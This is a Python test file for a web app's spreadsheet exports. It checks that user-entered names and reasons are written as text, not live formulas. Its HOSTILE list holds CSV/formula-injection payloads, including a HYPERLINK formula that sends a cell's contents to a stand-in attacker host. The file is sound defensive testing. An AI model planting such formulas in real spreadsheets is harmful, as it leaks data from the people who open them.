"""The published workbooks (`/exports/*.xlsx`): text users wrote stays text, never a formula
a spreadsheet program would run."""

import datetime as dt
import io

import openpyxl

from server.units.models import ExitRecord
from server.vocabulary import ExitScope, SiteStatus
from tests.factories import make_community, make_user
from tests.httpx_private import app_of
from tests.web.test_pages_over_http import csrf_of

# What a spreadsheet program takes for the start of a formula.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


ARREARS = "/exports/arrears.xlsx"


def _export_paths(client) -> list[str]:
    paths = [getattr(r, "path", "") for r in app_of(client).routes]
    return sorted(p for p in paths if p.startswith("/exports/"))


async def test_every_export_writes_user_text_as_text(client, runtime):
    community, units = await make_community(runtime, "yrd", size=len(HOSTILE))
    async with runtime.database.transaction(all_communities=True) as session:
        for n, (unit, name) in enumerate(zip(units, HOSTILE, strict=True), start=1):
            unit = await session.merge(unit)
            unit.name = name
            unit.plaque_number = f"LLC-2026-{n:04d}"
            unit.admitted_on = dt.date(2026, 3, 1)
            session.add(
                ExitRecord(
                    unit_id=unit.id,
                    community_id=community.id,
                    scope=ExitScope.COMMUNITY,
                    kind=SiteStatus.WITHDRAWN,
                    exited_on=dt.date(2026, 6, 1),
                    reason=name,
                    evidence=[],
                )
            )
        (await session.merge(community)).name = "=1+2 共同体"
    # The published lists; the arrears are the project group's (below).
    paths = [p for p in _export_paths(client) if p != ARREARS]
    assert paths == ["/exports/exits.xlsx", "/exports/sites.xlsx"]

    for path in paths:
        response = await client.get(path)
        assert response.status_code == 200, path
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]

        assert [c.coordinate for c in cells if c.data_type == "f"] == [], path
        texts = {c.value for c in cells if isinstance(c.value, str)}
        for name in HOSTILE:
            # XML reads a carriage return back as a line feed; the text is otherwise as written
            assert name in texts or name.replace("\r", "\n") in texts, (path, name)
        dates = [c.value for c in cells if c.is_date]
        assert dates and all(isinstance(d, dt.datetime) for d in dates), path  # real dates
    exits = openpyxl.load_workbook(io.BytesIO((await client.get("/exports/exits.xlsx")).content))
    assert "=1+2 共同体" in {c.value for row in exits.active.iter_rows() for c in row}


async def test_the_arrears_write_a_hostile_community_name_as_text(client, runtime):
    assert ARREARS in _export_paths(client)
    community, _ = await make_community(runtime, "yrd", name=HOSTILE[0][:100])
    _, token = await make_user(runtime, "pg@example.cn", ("PROJECT_GROUP", None))
    client.cookies.set("gx_session", token)
    form = (await client.get("/admin/fees/")).text
    issued = await client.post(
        "/admin/fees/",
        data={
            "csrf_token": csrf_of(form),
            "action": "issue",
            "community": community.slug,
            "kind": "SUB_SITE",
            "amount": "5000",
            "dueOn": "2026-01-15",
        },
    )
    assert issued.status_code in (200, 303), issued.text

    response = await client.get(ARREARS)

    assert response.status_code == 200
    cells = [c for row in openpyxl.load_workbook(io.BytesIO(response.content)).active for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert HOSTILE[0][:100] in {c.value for c in cells}


async def test_a_control_character_in_a_name_does_not_break_the_download(client, runtime):
    _, units = await make_community(runtime, "yrd", size=3)
    async with runtime.database.transaction() as session:
        unit = await session.merge(units[0])
        unit.name, unit.plaque_number = "滨江\x07社区学院", "LLC-2026-0001"

    response = await client.get("/exports/sites.xlsx")

    assert response.status_code == 200
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.values)
    assert rows[1][1] == "滨江\ufffd社区学院"
